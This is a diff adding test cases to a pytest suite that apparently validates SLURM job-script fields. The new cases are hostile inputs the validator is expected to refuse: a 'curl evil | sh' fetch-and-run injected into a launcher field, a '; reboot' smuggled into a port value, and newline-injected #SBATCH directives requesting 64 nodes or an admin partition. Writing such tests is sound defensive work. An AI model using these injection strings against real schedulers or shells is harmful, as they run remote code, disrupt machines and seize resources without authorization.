@@ -54,6 +54,12 @@ def test_single_node_uses_the_gpus_slurm_granted(env, expected, tmp_path):
     ("time", "4 hours", "time"),
     ("flex", "-3h", "duration"),
     ("gpus_per_node", 0, "at least 1"),
+    ("launcher", "torchrun; curl evil | sh", "launcher"),
+    ("launcher", "torchrun\n#SBATCH --nodes=64", "launcher"),
+    ("output", "out.log\n#SBATCH --partition=admin", "output"),
+    ("output", "my logs/%j.out", "output"),
+    ("port", "29500; reboot", "port"),
+    ("port", 70000, "port"),
 ])
 def test_bad_fields_are_refused(field, value, message):
     with pytest.raises(ValueError, match=message):
